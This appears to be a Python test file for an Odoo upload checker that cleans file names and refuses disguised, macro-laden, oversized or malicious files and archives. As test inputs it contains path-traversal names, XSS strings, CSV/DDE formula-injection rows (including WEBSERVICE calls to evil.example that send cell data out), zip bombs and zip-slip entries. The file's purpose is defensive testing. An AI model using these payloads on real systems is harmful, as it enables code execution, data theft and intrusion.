"""Files from outside: the check of names and contents, without Odoo's models."""

import io
import stat
import struct
import time
import unicodedata
import zipfile
from unittest.mock import Mock

import openpyxl
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

from odoo.tests import tagged

from ...tools.file_check import MB, MIMETYPES, Limits, check_file, check_files
from ...tools.file_names import MAX_BYTES, MAX_LENGTH, clean_name, extension_of
from ..common.file_check_case import QUICK, FileCase
from ..common.file_samples import HONEST, ODF_NAMES, PDF, docx, odf, packed, pdf_of, xlsx

# Pieces of names as people and attackers make them.
ODD = ".. . / \\ : CON nul aux. COM1. é e\u0301 й қ .pdf .exe \u202e \0 \ud800 e\u200b\u0301"
PIECES = st.one_of(
    st.text(max_size=12),
    st.sampled_from(ODD.split(" ")),
    st.sampled_from([" ", "\n", "😀" * 40, "ш" * 130, "a" * 200]),
)
NAMES = st.lists(PIECES, max_size=8).map("".join)


@tagged("post_install", "-at_install")
class TestNames(FileCase):
    def test_letters_stay(self):
        """Names of people and goods stay readable: Russian, Kazakh, Serbian letters, composed."""
        for name in (
            "Счёт-фактура № 12 от 05.03.2026.pdf",
            "Қазақстан әділет үй.docx",
            "Đorđe Šćepanović.PDF",
            "a (1) [x] {y} 'z'.txt",
        ):
            self.assertEqual(clean_name(name), name)
        self.assertEqual(clean_name(unicodedata.normalize("NFD", "йогурт ё.pdf")), "йогурт ё.pdf")

    def test_what_misleads_goes(self):
        """Paths, marks that turn the reading, control characters, devices, leading dots."""
        for name, cleaned in (
            ("../../etc/passwd", "passwd"),
            ("C:\\Users\\x\\invoice.pdf", "invoice.pdf"),
            ("invoice\u202efdp.exe", "invoicefdp.exe"),
            ("in\0voi\nce.pdf", "invoi ce.pdf"),
            (".htaccess", "file.htaccess"),
            (".pdf", "file.pdf"),
            ("...", "file"),
            ("", "file"),
            (None, "file"),
            ("con.pdf", "_con.pdf"),
            ("COM1.tar.pdf", "_COM1.tar.pdf"),
            ("<script>alert(1)</script>.pdf", "script_.pdf"),
            ('"><img src=x onerror=alert(1)>.pdf', "___img src=x onerror=alert(1)_.pdf"),
            ("a\u00a0\u2003 b .pdf. ", "a b.pdf"),
            ("dir/", "file"),
        ):
            with self.subTest(name=name):
                self.assertEqual(clean_name(name), cleaned)

    def test_length(self):
        """At most 120 characters; the extension stays, also of names in four-byte letters."""
        self.assertEqual(clean_name("ш" * 300 + ".pdf"), "ш" * 112 + "ш" * 4 + ".pdf")
        long = clean_name("😀" * 300 + ".docx")
        self.assertTrue(long.endswith("😀.docx"))
        self.assertLessEqual(len(long.encode()), MAX_BYTES)
        self.assertEqual(extension_of("Letter of Mr. Kovačević"), "")

    @QUICK
    @given(NAMES)
    def test_clean_names_are_names(self, name):
        """Whatever comes: a name, never a path, never empty, within the length, with nothing unseen in it."""
        cleaned = clean_name(name)
        self.assertEqual(clean_name(cleaned), cleaned)
        self.assertTrue(cleaned.strip(" ."))
        self.assertFalse(set('/\\<>:"|?*\0\n\r') & set(cleaned))
        self.assertFalse(cleaned.startswith((".", " ")) or cleaned.endswith((".", " ")))
        self.assertLessEqual(len(cleaned), MAX_LENGTH)
        self.assertLessEqual(len(cleaned.encode()), MAX_BYTES)
        self.assertEqual(unicodedata.normalize("NFC", cleaned), cleaned)
        self.assertFalse([char for char in cleaned if unicodedata.category(char).startswith("C")])

    @QUICK
    @given(NAMES, st.sampled_from(sorted(MIMETYPES)))
    def test_extension_is_kept(self, name, extension):
        """A clean name has the type under which the file came."""
        self.assertEqual(extension_of(clean_name(f"{name}x.{extension}")), extension)

    def test_types(self):
        """What runs is taken under no name, and no name hides it."""
        for name in (
            "x.exe",
            "x.html",
            "x.svg",
            "x.docm",
            "x.xlsm",
            "x.js",
            "x.pdf.exe",
            "x",
            "x.xml",
            "x.pdf\u202e.scr",
        ):
            self.assertIn("type", self.codes(name, PDF), name)
        self.assert_codes("invoice.exe.pdf", PDF, "doubled")
        for name in ("order 12.05.2026.pdf", "firma.pl.pdf", "a.b.c.pdf"):
            self.assert_codes(name, PDF)

    def test_types_are_a_setting(self):
        """An authority can take fewer types; what can run is not taken whatever is set."""
        self.assert_codes("a.pdf", PDF, limits=Limits(types=frozenset({"pdf"})))
        self.assert_codes("a.txt", b"text", "type", limits=Limits(types=frozenset({"pdf"})))
        self.assert_codes("a.exe", b"MZ", "type", limits=Limits(types=frozenset({"pdf", "exe"})))


@tagged("post_install", "-at_install")
class TestContents(FileCase):
    def test_honest_files(self):
        """Each accepted type is taken when it is what it says."""
        self.assertEqual({extension_of(name) for name in HONEST}, set(MIMETYPES))
        for name, content in HONEST.items():
            with self.subTest(name=name):
                checked = check_file(name, io.BytesIO(content))
                self.assertEqual(checked.problems, ())
                self.assertEqual(checked.mimetype, MIMETYPES[extension_of(name)])
                self.assertEqual(checked.size, len(content))

    def test_files_of_real_programs(self):
        """What common programs write is taken: PDF, tables and pictures, also with packed objects."""
        pdf, tables, other = io.BytesIO(), io.BytesIO(), io.BytesIO()
        canvas = Canvas(pdf)
        canvas.drawString(100, 100, "/JavaScript is a word (not a script): Act")
        canvas.save()
        self.assert_codes("a.pdf", pdf.getvalue())
        with xlsxwriter.Workbook(tables) as book:
            book.add_worksheet().write(0, 0, "сыр")
        self.assert_codes("a.xlsx", tables.getvalue())
        openpyxl.Workbook().save(other)
        self.assert_codes("a.xlsx", other.getvalue())
        for name, kind in (("a.jpg", "JPEG"), ("a.png", "PNG")):
            picture = io.BytesIO()
            Image.new("RGB", (20, 20)).save(picture, kind)
            self.assert_codes(name, picture.getvalue())
        entry = '<m:file-entry m:full-path="/" m:media-type="%s"/>'
        manifest = f"<m:manifest {ODF_NAMES}>{entry}</m:manifest>"
        sheet = manifest % "application/vnd.oasis.opendocument.spreadsheet"
        self.assert_codes("a.ods", packed({"content.xml": "<x/>", "META-INF/manifest.xml": sheet}))
        self.assert_codes("a.odt", packed({"content.xml": "<x/>", "META-INF/manifest.xml": sheet}), "content")

    def is_both(self, real, named):
        """Tell whether a file of type ``real`` is one of type ``named`` as well."""
        if named == "zip":
            return real in ("zip", "docx", "xlsx", "odt", "ods")  # What lies in it is looked at below.
        if named in ("txt", "csv"):
            return real in ("txt", "csv", "pdf")  # The PDF here is plain text indeed.
        return MIMETYPES[real] == MIMETYPES[named]

    def test_content_is_what_the_name_says(self):
        """A file whose content is not its type is refused, each content under each other name."""
        for real, content in HONEST.items():
            for name in HONEST:
                if self.is_both(extension_of(real), extension_of(name)):
                    continue
                with self.subTest(content=real, name=name):
                    self.assert_codes(name, content, "content")

    def test_programs_under_other_names(self):
        """An executable is refused under every accepted name."""
        for program in (
            b"MZ\x90\x00" + bytes(60),
            b"\x7fELF\x02\x01\x01" + bytes(60),
            b"\xca\xfe\xba\xbe" + bytes(9),
        ):
            for extension in MIMETYPES:
                with self.subTest(extension=extension):
                    self.assert_codes(f"x.{extension}", program, "content")

    def test_sizes(self):
        """Empty files and those above the limit are refused; what is above is not read."""
        limits = Limits(max_bytes=100)

        self.assert_codes("a.txt", b"", "empty")
        self.assert_codes("a.txt", b"x" * 100, limits=limits)
        stream = Mock(wraps=io.BytesIO(b"x" * 101))
        self.assert_codes("a.txt", stream, "too_big", limits=limits)
        stream.read.assert_not_called()

    def test_text(self):
        """Text is text: no markup of web pages, no script, no control characters."""
        for text in (
            "<html><body>x",
            "  <!DOCTYPE html>",
            "<?xml version='1.0'?><svg/>",
            "a;b\n<ScRiPt src=//x>",
            "<svg/onload=alert(1)>",
            "<b onclick='x'>",
            "<?php echo 1;",
            "#!/bin/sh\nrm",
        ):
            for name in ("a.txt", "a.csv"):
                self.assert_codes(name, text.encode(), "markup")
        for text in ("if a < b and c > d", "<25 kg>", "<name>", "From: <a@b.rs>", "2 <html-like"):
            self.assert_codes("a.txt", text.encode())
        self.assert_codes("a.txt", "текст".encode("utf-16"), "content")
        self.assert_codes("a.txt", b"a\x1b[31m", "content")
        self.assert_codes("a.txt", b"\x98\xff", "encoding")

    def test_text_of_another_format(self):
        """Word and Excel open RTF, web archives, mails, SYLK, DIF by their words, not by their name."""
        for text in (
            "{\\rtf1{\\object\\objautlink\\objupdate x}}",
            "\n {\\rt x",
            "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x",
            "From: a@b.rs\nSubject: x\nContent-Type: text/html\n\nx",
            "x\ncontent-location : file:///C:/x",
            'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC("calc.exe")\n',
            "ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nE",
            'TABLE\r\n0,1\r\n"EXCEL"\r\n',
        ):
            for name in ("a.txt", "a.csv"):
                with self.subTest(name=name, text=text[:20]):
                    self.assert_codes(name, text.encode(), "text_format")
                    self.assert_codes(name, b"\xef\xbb\xbf" + text.encode(), "text_format")
            self.assert_codes("a.zip", packed({"a.txt": text}), "text_format")
        for text in (
            "ID;Product;Quantity\n1;Cheese;5\n",
            "ID,Name\nC,x",
            "TABLE\n1,2\n",
            "From: a@b.rs\nTo: c@d.kz\nSubject: content of the shipment\n\nThe type: cheese.",
            "x {\\rtf1}",
        ):
            self.assert_codes("a.csv", text.encode())
            self.assert_codes("a.txt", text.encode())

    def test_formulas_in_rows(self):
        """A program takes cells of a CSV for formulas: those that start something are refused."""
        for row in (
            "=cmd|'/c calc'!A0",
            "x;1;\"=cmd|'/c calc'!A0\";y",
            "x\t+cmd|'/c calc'!A0",
            "x,-2+3+cmd|' /C calc'!A0",
            "@SUM(1)*cmd|'/c calc'!A0",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "＝cmd|'/c calc'!A0",
            "='кмд'|'/c calc'!A0",
            '=DDE("cmd";"/C calc";"x")',
            '"=1+\nWEBSERVICE(""https://evil.example/""&A1)"',
            '=ВЕБСЛУЖБА("https://evil.example/")',
            '=WEBDIENST("https://evil.example/")',
            '-WEBDIENST("https://evil.example/")',
            '=IMPORTXML(CONCATENATE("https://evil.example/";A1);"//a")',
            "='\\\\10.0.0.1\\share\\[a.xlsx]A'!A1",
            "+'file://10.0.0.1/a.ods'#$A.A1",
            '=HYPERLINK("file://10.0.0.1/a.exe")',
            "\"x;1\n=cmd|'/c calc'!A0",
        ):
            with self.subTest(row=row):
                self.assert_codes("a.csv", f"name;quantity\n{row}\n".encode(), "text_formula")
        problem = check_file("a.csv", b"a;b\n1;2\n3;=cmd|'/c calc'!A0").problems[0]
        self.assertEqual(problem.params, {"row": 3})
        for row in (
            "-5;+381 11 123-45;-12,5 %;-",
            "@firma.rs;+7 (495) 123;- bulk (45 %);- - - other | cheese",
            "- see https://firma.rs (page 2);-Levi's",
            '="0402109100";=5;=A1+B2;=SUM(A1:A3);==== Total (EUR) ====',
            '=HYPERLINK("https://firma.rs";"page")',
            "5;(12.5);-(3)",
            "-5|abc|x",
            "'=cmd|'/c calc'!A0",
            "a=cmd|b!c",
        ):
            with self.subTest(row=row):
                self.assert_codes("a.csv", f"name;quantity\n{row}\n".encode())

    def test_rows_are_read_by_the_child(self):
        """A table of millions of dashes ends with the time of the check, and holds no worker."""
        begun = time.monotonic()
        checked = check_files([("a.csv", b",-a(" * 4_000_000)], Limits(), 2)
        self.assertLess(time.monotonic() - begun, 6)
        self.assertEqual([problem.code for problem in checked[0].problems], ["too_slow"])

    def test_markup_in_long_lines_is_found_in_time(self):
        """The search for markup does not grow with the square of the text."""
        begun = time.monotonic()
        self.assert_codes("a.txt", b"<a " * 500_000)
        self.assert_codes("a.txt", b"<" + b" " * 2_000_000)
        self.assertLess(time.monotonic() - begun, 10)


@tagged("post_install", "-at_install")
class TestArchives(FileCase):
    def test_zip_bomb(self):
        """An archive that becomes far too large is refused by what it says, without unpacking it."""
        begun = time.monotonic()
        self.assert_codes("a.zip", packed({"a.txt": bytes(30 * MB)}), "zip_bomb")
        self.assert_codes("a.docx", docx(word__media__x=bytes(30 * MB)), "zip_bomb")
        self.assert_codes("a.zip", packed({"a.docx": docx(x=bytes(9 * MB))}), "zip_bomb")
        self.assertLess(time.monotonic() - begun, 10)

    def test_zip_bomb_that_lies(self):
        """An archive that says it is small is unpacked no further than it says, and refused."""
        content = packed({"a.txt": b" " * (5 * MB)})
        lie = content.replace(struct.pack("<L", 5 * MB), struct.pack("<L", 10))
        self.assertNotEqual(lie, content)
        self.assert_codes("a.zip", lie, "zip_broken")

    def test_real_size_counts(self):
        """What really comes out is counted, over all archives of one upload."""
        inner = xlsx()
        with zipfile.ZipFile(io.BytesIO(inner)) as archive:
            size = sum(entry.file_size for entry in archive.infolist())
        limits = Limits(max_unpacked=len(inner) + size - 1)
        self.assert_codes("a.zip", packed({"a.xlsx": inner}), "zip_bomb", limits=limits)
        limits = Limits(max_unpacked=len(inner) + size)
        self.assert_codes("a.zip", packed({"a.xlsx": inner}), limits=limits)

    def test_many_entries(self):
        """Thousands of entries are refused, and a table of contents of millions is not even read."""
        self.assert_codes("a.zip", packed({f"{n}.txt": b"x" for n in range(2001)}), "zip_entries")
        end = b"PK\x05\x06" + bytes(4) + struct.pack("<HHLLH", 1, 1, 3 * MB, 4, 0)
        self.assert_codes("a.zip", b"PK\x03\x04" + bytes(3 * MB) + end, "zip_broken")
        self.assert_codes("a.zip", b"PK\x05\x06" + bytes(18), "content")
        self.assert_codes("a.zip", packed({"folder/": b""}), "zip_empty")

    def test_what_lies_inside(self):
        """What may not come alone does not come in an archive: programs, pages, drawings, other contents."""
        for name, content, code in (
            ("a.exe", b"MZ", "type"),
            ("a.html", b"<html>", "type"),
            ("a.svg", b"<svg/>", "type"),
            ("a.docm", docx(), "type"),
            ("a.pdf", b"MZ\x90\x00", "content"),
            ("a.pdf", pdf_of(b"/JavaScript"), "pdf_script"),
            ("a.txt", b"<script>", "markup"),
            ("a.exe.pdf", PDF, "doubled"),
            ("b.zip", packed({"a.txt": b"x"}), "zip_nested"),
            ("b.rar", b"Rar!", "zip_nested"),
            ("a.docx", docx(word__vbaProject__bin=b"x", **{"word/vbaProject.bin": b"x"}), "macros"),
            ("../a.txt", b"x", "zip_path"),
            ("/etc/a.txt", b"x", "zip_path"),
            ("C:\\a.txt", b"x", "zip_path"),
            ("..\\a.txt", b"x", "zip_path"),
            ("../a/", b"", "zip_path"),
        ):
            with self.subTest(name=name, code=code):
                problems = check_file("all.zip", packed({"good.txt": b"x", name: content})).problems
                self.assertEqual({problem.code for problem in problems}, {code})
                self.assertTrue(problems[0].inside)
        self.assert_codes("a.zip", packed({"a.txt": b"", "b/.DS_Store": b"\0"}))

    def test_links_and_twins(self):
        """No links in an archive, and no two files of one name, of which each program shows another."""
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            link = zipfile.ZipInfo("a.txt")
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, "/etc/passwd")
        self.assert_codes("a.zip", stream.getvalue(), "zip_path")
        self.assert_codes("a.zip", packed({"a.txt": b"x", "A.TXT": b"y"}), "zip_twice")

    def test_locked_or_packed_otherwise(self):
        """What cannot be looked at is not taken."""
        content = bytearray(packed({"a.txt": b"x"}))
        content[content.index(b"PK\x01\x02") + 8] |= 1
        self.assert_codes("a.zip", bytes(content), "zip_locked")
        self.assert_codes("a.zip", packed({"a.txt": b"x"}, zipfile.ZIP_LZMA), "zip_packing")
        locked = odf("text", {"META-INF/manifest.xml": "<manifest:encryption-data/>"})
        self.assert_codes("a.odt", locked, "content")

    def test_macros_and_objects(self):
        """Macros and objects that run, in documents of either family."""
        self.assert_codes("a.docx", docx(**{"word/vbaProject.bin": b"x"}), "macros")
        self.assert_codes("a.xlsx", xlsx({"xl/vbaProject.bin": b"x"}), "macros")
        self.assert_codes("a.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b"x"}), "macros")
        self.assert_codes("a.odt", odf("text", {"Basic/Standard/Module1.xml": b"x"}), "macros")
        self.assert_codes("a.docx", docx(**{"word/embeddings/oleObject1.bin": b"x"}), "object")
        self.assert_codes("a.docx", docx(**{"word/activeX/activeX1.xml": b"x"}), "object")
        self.assert_codes("a.docx", docx(**{"word/afchunk.htm": b"x"}), "object")
        self.assert_codes("a.docx", docx(**{"word/media/a.exe": b"x"}), "object")
        self.assert_codes(
            "a.docx", docx(**{"word/media/image1.svg": b"<svg/>", "customXml/item1.xml": b"<x/>"})
        )
        types = "wordprocessingml.document.main+xml application/vnd.ms-word.document.macroEnabled.main+xml"
        self.assert_codes("a.docx", packed({"[Content_Types].xml": types}), "content")

    def test_documents_in_documents(self):
        """The table behind a chart is a document of its own and looked at like one."""
        name = "word/embeddings/Microsoft_Excel_Sheet1.xlsx"
        self.assert_codes("a.docx", docx(**{name: xlsx()}))
        self.assert_codes("a.zip", packed({"a.docx": docx(**{name: xlsx()})}))
        self.assert_codes("a.docx", docx(**{name: xlsx({"xl/vbaProject.bin": b"x"})}), "macros")
        deep = docx(**{name: xlsx({"xl/embeddings/a.xlsx": xlsx()})})
        self.assert_codes("a.zip", packed({"a.docx": deep}), "zip_nested")

    @QUICK
    @given(
        st.sampled_from(["all.zip", "letter.docx", "ledger.ods"]),
        st.lists(st.tuples(st.integers(0, 10_000), st.binary(min_size=1, max_size=6)), max_size=4),
        st.integers(0, 10_000),
    )
    def test_damaged_archives(self, name, changes, cut):
        """A damaged or forged archive gives problems or none, and never a traceback."""
        content = bytearray(HONEST[name])
        for at, change in changes:
            place = at % len(content)
            content[place : place + len(change)] = change
        check_file(name, bytes(content[: len(content) - cut % 40]))

    @QUICK
    @given(
        st.dictionaries(
            NAMES.filter(lambda name: name.split("\0")[0] and "\ud800" not in name),
            st.binary(max_size=50),
            max_size=5,
        )
    )
    def test_any_archive(self, entries):
        """Whatever names and bytes an archive holds: what is taken holds accepted types alone."""
        checked = check_file("a.zip", packed(entries))
        if not checked.problems:
            for name in entries:
                if not name.endswith("/"):
                    self.assertIn(extension_of(clean_name(name)), MIMETYPES)

    @QUICK
    @given(st.sampled_from(sorted(MIMETYPES)), st.binary(max_size=200))
    def test_any_content(self, extension, content):
        """Whatever bytes come under whatever type: an answer, and never a traceback."""
        check_file(f"a.{extension}", content)
